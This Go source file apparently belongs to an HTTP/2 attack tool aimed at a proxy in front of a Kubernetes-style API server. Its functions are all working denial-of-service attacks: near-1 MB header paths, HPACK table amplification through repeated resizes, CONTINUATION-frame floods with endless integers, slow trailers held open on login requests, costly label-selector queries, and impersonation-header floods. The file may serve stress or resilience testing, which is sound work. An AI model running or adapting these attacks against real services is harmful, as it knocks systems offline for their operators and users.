package main

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

const (
	// longHead is almost as much as a header may have.
	longHead = 1_000_000
	// tableSize is that of HPACK's table as long as nothing else was agreed.
	tableSize = 4 << 10
	// patience is how long an attacker waits until what was sent has been noticed.
	patience = 100 * time.Millisecond
)

// onFrames has a number of workers for each of the attacker's connections. Each opens a connection of HTTP/2, does
// something on it, and begins again.
func (a *attacker) onFrames(
	ctx context.Context, each int, do func(f *frames, worker int) error, settings ...http2.Setting,
) {
	a.each(ctx, a.Connections*each, func(worker int) error {
		f, err := a.open(ctx, settings...)
		if err != nil {
			return err
		}
		defer f.conn.Close() //nolint:errcheck // it is given up
		return do(f, worker)
	})
}

// longPaths asks with paths that fill a header, and reads no answer.
func longPaths(path string) func(ctx context.Context, a *attacker) {
	return func(ctx context.Context, a *attacker) {
		block := headerBlock(
			field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "proxy"},
			field{":path", path + strings.Repeat("a", longHead)},
		)
		a.onFrames(ctx, 4, func(f *frames, _ int) error {
			return f.flood(ctx, func() error { return f.block(block) })
		}, windowOfNothing())
	}
}

// selectors asks for what has many labels, in so many bytes. They take much to parse.
func selectors(length int) func(ctx context.Context, a *attacker) {
	return func(ctx context.Context, a *attacker) {
		block := headerBlock(
			field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "proxy"},
			field{":path", configMaps + "?limit=1&labelSelector=" + strings.Repeat("a,", length/2) + "a"},
		)
		a.onFrames(ctx, 1, func(f *frames, _ int) error {
			return f.flood(ctx, func() error { return f.block(block) })
		})
	}
}

// tables sends headers of a few hundred bytes, which stand for almost 1 MiB: each byte is a field in the table of the
// connection, which one field fills. At first its size is changed again and again.
func tables(ctx context.Context, a *attacker) {
	request := headerBlock(
		field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "proxy"}, field{":path", "/version"},
	)
	const overhead, first = 32, 62 // of an entry; the index of the newest one
	value := strings.Repeat("v", tableSize-overhead-len("a"))
	fill := append(appendInteger([]byte{0x40}, 0, 7, len("a")), 'a') // literal, which is put into the table
	fill = append(appendInteger(fill, 0, 7, len(value)), value...)
	references := bytes.Repeat([]byte{1<<7 | first}, longHead/tableSize)
	var resize []byte
	for range 50 {
		resize = appendInteger(appendInteger(resize, 0x20, 5, 0), 0x20, 5, tableSize) // also empties the table
	}
	// The size may change at the beginning of a block only. What follows the method and so on are the references.
	filling := slices.Concat(resize, request, fill, references)
	short := slices.Concat(request, references)
	a.onFrames(ctx, 1, func(f *frames, _ int) error {
		next := filling
		return f.flood(ctx, func() error {
			block := next
			next = short
			return f.block(block)
		})
	})
}

// continuations begins headers that go on in pieces of nothing, and, on every other connection, integers without an end.
func continuations(ctx context.Context, a *attacker) {
	var empty bytes.Buffer
	framer := http2.NewFramer(&empty, nil)
	for range 5000 {
		_ = framer.WriteContinuation(1, false, nil) // a buffer takes everything
	}
	a.onFrames(ctx, 4, func(f *frames, worker int) error {
		block := headerBlock(field{":method", "GET"})
		if worker%2 == 1 {
			block = append(block, bytes.Repeat([]byte{0xff}, 1000)...)
		}
		f.write(func() error {
			return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
		})
		a.requests.Add(1 + f.send(ctx, empty.Bytes()))
		return nil
	})
}

// loginOnItsWay is a login whose body is expected.
func (f *frames) loginOnItsWay() (uint32, error) {
	return f.begin(
		"POST", credentialRequests, field{"content-length", "10"}, field{"content-type", "application/json"},
	)
}

// trailers begins trailers of short fields, after requests whose bodies are expected, on as many connections as there
// may be.
func trailers(ctx context.Context, a *attacker) {
	block := bytes.Repeat(headerBlock(field{"a", "b"}), 31_000/len(headerBlock(field{"a", "b"})))
	a.onFrames(ctx, 165, func(f *frames, _ int) error {
		stream, err := f.loginOnItsWay()
		if err != nil {
			return err
		}
		sleep(ctx, patience)
		half := len(block) / 2
		f.write(func() error {
			return f.framer.WriteHeaders(
				http2.HeadersFrameParam{StreamID: stream, BlockFragment: block[:half], EndStream: true},
			)
		})
		f.write(func() error { return f.framer.WriteContinuation(stream, false, block[half:]) })
		f.hold(ctx)
		return nil
	})
}

// gateWait makes so much go wrong that strangers are looked at one at a time, and has many wait behind one whose body
// does not come.
func gateWait(ctx context.Context, a *attacker) {
	a.onFrames(ctx, 160, func(f *frames, worker int) error {
		if worker < 10 {
			for range 20 {
				if _, err := f.request("GET", configMaps, nil, field{"authorization", "Bearer " + random()}); err != nil {
					return err
				}
			}
			sleep(ctx, time.Second)
			return nil
		}
		if _, err := f.loginOnItsWay(); err != nil {
			return err
		}
		sleep(ctx, patience)
		for range attackStreams - 1 {
			if _, err := f.request("GET", "/", nil); err != nil {
				return err
			}
		}
		f.hold(ctx)
		return nil
	}, windowOfNothing())
}

// nested asks to be others, with names that are always new, many groups, and many extra keys.
func nested(ctx context.Context, a *attacker) {
	const many = 1000
	a.onFrames(ctx, 1, func(f *frames, _ int) error {
		turn := 0
		return f.flood(ctx, func() error {
			turn++
			fields := []field{{"impersonate-user", random()}}
			for i := range many {
				switch turn % 3 {
				case 1:
					fields = append(fields, field{"impersonate-group", fmt.Sprintf("%d-%s", i, a.Salt)})
				case 2:
					fields = append(fields, field{fmt.Sprintf("impersonate-extra-%d", i), random()})
				}
			}
			_, err := f.request("GET", configMaps, nil, fields...)
			return err
		})
	})
}
